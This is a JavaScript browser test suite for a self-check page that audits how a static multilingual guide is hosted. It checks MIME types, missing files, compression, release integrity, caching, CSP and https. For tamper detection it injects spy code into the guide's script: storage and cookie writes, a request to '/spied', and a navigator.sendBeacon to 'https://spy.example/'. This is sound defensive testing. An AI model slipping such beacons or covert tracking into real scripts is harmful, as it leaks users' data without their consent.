// The check page (kit/check) on hosts that go wrong in one way each: the right line says so, and says how to mend it.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { violations } from '../browser/support/accessible.js';
import { INSECURE, STRICT, WHOLE_SITE, absent, bad, edited, only, openHost, page, typed, verdictsOf } from './support/check.js';
import { serve } from './support/host.js';

const AT_ONCE = 3; // each check listens for a while and computes for a while

let host;
before(async () => { host = await openHost(); });
after(() => host.close());
const verdicts = (options) => verdictsOf(host, options);

describe('a host that does everything right', () => {
  let lines;
  let seen;
  const asked = [];
  before(async () => {
    lines = await verdicts({
      from: WHOLE_SITE, query: '?page=/fr.html', pages: { '/fr.html': page() }, onRequest: (url) => asked.push(url), now: '2026-11-27T10:00:00Z',
      keep: async (tab) => {
        seen = { violations: await violations(tab, 'body'), text: await tab.inputValue('#text'), lang: await tab.getAttribute('html', 'lang'), wide: await tab.evaluate(() => document.documentElement.scrollWidth), title: await tab.title() };
        await tab.context().grantPermissions(['clipboard-read', 'clipboard-write']);
        await tab.click('section button:has-text("Copier")');
        await tab.waitForFunction(() => document.body.textContent.includes('Copié.'));
        seen.clipboard = await tab.evaluate(() => navigator.clipboard.readText());
      },
    });
  });
  test('nothing is bad, under the strict policy; every line was looked at', () => {
    assert.deepEqual(bad(lines), []);
    assert.deepEqual(Object.entries(lines).filter(([, { state }]) => state !== 'pass').map(([id]) => id), []);
    assert.ok(Object.keys(lines).length >= 25);
  });
  test('it says the versions, and the days of the law', () => {
    assert.match(lines.version.text, /0\.1\.0, règles de droit 2026\.\d+\.\d+/);
    assert.match(lines.age.text, /23 novembre 2026.*28 février 2027/);
  });
  test('the worst comes first: what is not OK need not be looked for', async () => {
    const states = Object.values(await verdicts({ now: '2027-02-20T10:00:00Z', change: only('.css', (reply) => { reply.headers['Content-Type'] = 'text/plain'; }) })).map(({ state }) => state);
    assert.deepEqual([...new Set(states)], ['fail', 'warn', 'pass', 'skip']);
    assert.equal(states.lastIndexOf('fail') + 1, states.indexOf('warn'));
  });
  test('it asks its own site only, and every file of the release', () => {
    const names = Object.keys(JSON.parse(readFileSync(join(WHOLE_SITE, 'permit-guide/release.json'), 'utf8')).files);
    assert.deepEqual(names.filter((name) => !asked.includes(`/permit-guide/${name}`)), []);
  });
  test('axe-core finds nothing; nothing sticks out at 320 px', () => {
    assert.deepEqual(seen.violations, []);
    assert.ok(seen.wide <= 320, String(seen.wide));
  });
  test('the report is copied as text, every line in it', () => {
    assert.equal(seen.clipboard, seen.text);
    assert.equal(seen.text.split('\n').filter((line) => /^\[/.test(line)).length, Object.keys(lines).length);
    assert.equal(seen.lang, 'fr');
  });
});

/** One fault each: what is bad then, and nothing else. */
const FAULTS = {
  'scripts with a wrong type': [{ change: only('.js', typed('text/plain')) }, ['starts: fail', 'type-js: fail']],
  'styles with a wrong type': [{ change: only('.css', (reply) => { reply.headers['Content-Type'] = 'text/plain'; }) }, ['starts: fail', 'type-css: fail']],
  'the engine with a wrong type': [{ change: only('.wasm', typed('application/octet-stream')) }, ['type-wasm: warn']],
  'the engine sent as a page': [{ change: only('.wasm', typed('text/html')) }, ['type-wasm: warn']],
  'words with a wrong type': [{ change: only('.json', typed('text/plain')) }, ['type-json: warn']],
  'the law with a wrong type': [{ change: only('.pack', typed('text/plain')) }, ['type-pack: warn']],
  'no compression': [{ change: (pathname, reply) => reply.path?.match(/\.(br|gz)$/) && edited(reply, (bytes) => bytes) }, ['compression: fail']],
  'one file changed': [{ change: only('texts/en.more.json', (reply) => edited(reply, (bytes) => Buffer.concat([bytes, Buffer.from(' ')]))) }, ['compression: fail', 'intact: fail']],
  'a file missing': [{ change: only('texts/ar.more.json', absent) }, ['missing: fail']],
  'the first script missing': [{ change: only('/permit-guide.js', absent) }, ['missing: fail', 'starts: fail']],
  'a language missing': [{ change: (pathname, reply) => /texts\/ti\./.test(pathname) && absent(reply) }, ['missing: fail']],
  'WebAssembly forbidden by the policy': [{ csp: STRICT.replace(" 'wasm-unsafe-eval'", '') }, ['wasm: warn']],
  'a page of the host instead of a file': [{ change: only('texts/ar.json', (reply) => { reply.headers['Content-Type'] = 'text/html'; reply.body = '<!doctype html>'; }) }, ['missing: fail']],
  'files that may be left out missing': [{}, []],
  'files kept for a year': [{ change: only('.json', (reply) => { reply.headers['Cache-Control'] = 'public, max-age=31536000, immutable'; }) }, ['caching: warn']],
  'a law past its review day': [{ now: '2027-03-01T10:00:00Z' }, ['age: fail']],
  'a law soon to be reviewed': [{ now: '2027-02-20T10:00:00Z' }, ['age: warn']],
  'no list of files': [{ change: only('release.json', absent) }, ['version: fail']],
};

describe('a host with one fault', { concurrency: AT_ONCE }, () => {
  for (const [fault, [options, expected]] of Object.entries(FAULTS)) {
    test(fault, async () => {
      const lines = await verdicts({ now: '2026-11-27T10:00:00Z', ...options });
      assert.deepEqual(bad(lines), expected);
      for (const { state, mend } of Object.values(lines)) assert.ok(state === 'pass' || state === 'skip' || mend?.length > 10, 'each says how to mend it');
    });
  }

  test('without the list of files every other line is there, and says why it was not checked', async () => {
    const lines = await verdicts({ change: only('release.json', absent) });
    assert.deepEqual(Object.keys(lines).sort(), Object.keys(await verdicts()).sort());
    for (const id of ['missing', 'type-js', 'type-wasm', 'compression', 'intact', 'caching', 'whole']) {
      assert.equal(lines[id].state, 'skip', id);
      assert.match(lines[id].text, /release\.json, n’est pas arrivée/, id);
    }
  });

  test('what each of these says', async () => {
    const said = async (change, id) => (await verdicts({ change }))[id].text;
    assert.match(await said(only('/permit-guide.js', absent), 'starts'), /permit-guide\.js n’est pas arrivé/);
    assert.match(await said(only('/permit-guide.js', (reply) => { reply.body = '<!doctype html>'; }), 'starts'), /permit-guide\.js n’est pas arrivé/);
    assert.match(await said((pathname, reply) => /texts\/ti\./.test(pathname) && absent(reply), 'missing'), /Ces langues manquent.* : ti\. /);
    assert.match(await said(only('.wasm', typed('text/html')), 'type-wasm'), /« text\/html ».*marche.*application\/wasm/);
  });

  test('WebAssembly forbidden by the policy: allowed, with the reason', async () => {
    const { wasm, starts } = await verdicts({ csp: STRICT.replace(" 'wasm-unsafe-eval'", '') });
    assert.equal(starts.state, 'pass');
    assert.match(wasm.text, /permit-guide\.nowasm\.js/);
    assert.match(wasm.mend, /'wasm-unsafe-eval'/);
  });

  test('a policy that forbids a script which the host adds: it is named', async () => {
    const hostile = only('check/check.html', (reply) => edited(reply, (bytes) => String(bytes).replace('</main>', '</main><script src="https://statistics.example/s.js"></script>')));
    const lines = await verdicts({ change: hostile });
    assert.equal(lines.policy.state, 'fail');
    assert.match(lines.policy.text, /script-src-elem https:\/\/statistics\.example/);
  });

  test('half updated: the law of another release beside the rest', async () => {
    const older = (pathname, reply) => /names|rulebook\.pack|more\.js$/.test(pathname) && edited(reply, (bytes) => (pathname.endsWith('names.json') ? String(bytes).replace(/"version":"[^"]+"/, '"version":"2020.1.1"') : Buffer.concat([bytes, Buffer.from(' ')])));
    const lines = await verdicts({ change: older });
    assert.equal(lines.whole.state, 'fail');
    assert.equal(lines.intact.state, 'fail');
    assert.match(lines.starts.text, /sa seconde moitié/); // the guide says so itself: nobody waits for it
  });

  test('lists of two releases', async () => {
    const lines = await verdicts({ change: only('permit-guide/SHA256SUMS', (reply) => edited(reply, (bytes) => String(bytes).split('\n').slice(3).join('\n'))) });
    assert.equal(lines.whole.state, 'fail');
    assert.equal(lines.intact.state, 'pass');
  });

  test('a page that is not https: it says so, and that checksums need it', async () => {
    const lines = await verdicts({ origin: INSECURE });
    assert.deepEqual([lines.secure.state, lines.intact.state, lines.whole.state, lines.starts.state], ['warn', 'skip', 'skip', 'pass']);
  });
});

describe('a guide that was tampered with', { concurrency: AT_ONCE }, () => {
  const withSpy = (code) => only('/permit-guide.js', (reply) => edited(reply, (bytes) => `${bytes}\naddEventListener('click', () => { ${code} }, true);`));
  test('a request after an answer is caught, and named', async () => {
    const lines = await verdicts({ change: withSpy("fetch('/spied?answer=1').catch(() => {});") });
    assert.deepEqual([lines.requests.state, lines.storage.state, lines.intact.state], ['fail', 'pass', 'fail']);
    assert.match(lines.requests.text, /spied/);
  });
  for (const [kind, code] of Object.entries({ localStorage: "localStorage.setItem('spied', 1)", sessionStorage: "sessionStorage.setItem('spied', 1)", cookie: "document.cookie = 'spied=1'", indexedDB: "indexedDB.open('spied')", caches: "caches.open('spied')" })) {
    test(`a trace is caught, and named: ${kind}`, async () => {
      const lines = await verdicts({ change: withSpy(code) });
      assert.equal(lines.storage.state, 'fail');
      assert.match(lines.storage.text, new RegExp(`${kind}: spied`));
    });
  }
  test('what the policy forbids is heard', async () => {
    const lines = await verdicts({ change: withSpy("navigator.sendBeacon('https://spy.example/', 'x')") });
    assert.equal(lines.policy.state, 'fail');
    assert.match(lines.policy.text, /connect-src https:\/\/spy\.example/);
  });
});

test('in English when asked', async () => {
  await verdicts({ query: '?lang=en', keep: async (tab, lines) => {
    assert.equal(await tab.getAttribute('html', 'lang'), 'en');
    assert.match(lines.whole.text, /All files belong to the same release/);
  } });
});

test('where its own script does not run, the page says why', async () => {
  const site = await serve({ folder: host.folder, csp: STRICT, change: only('check.js', (reply) => { reply.headers['Content-Type'] = 'text/plain'; }) });
  const tab = await host.browser.newPage();
  await tab.goto(`${site.url}permit-guide/check/check.html`);
  assert.match(await tab.textContent('main'), /text\/javascript.*the script of this check could not run/s);
  await tab.close();
  await site.close();
});

test('both languages say the same things, with the same figures', () => {
  const [fr, en] = ['fr', 'en'].map((language) => JSON.parse(readFileSync(new URL(`../../kit/check/words/${language}.json`, import.meta.url), 'utf8')));
  const shape = (value) => (typeof value === 'string' ? [...value.matchAll(/\{\w+\}/g)].map(String).sort() : Array.isArray(value) ? value.map(shape) : Object.fromEntries(Object.entries(value).map(([key, one]) => [key, shape(one)])));
  assert.deepEqual(shape(fr), shape(en));
  const speechless = Object.entries(en.lines).flatMap(([id, line]) => Object.entries(line).filter(([code, said]) => /^(fail|warn)/.test(code) && said.length !== 2).map(([code]) => `${id}.${code}`));
  assert.deepEqual(speechless, []);
});
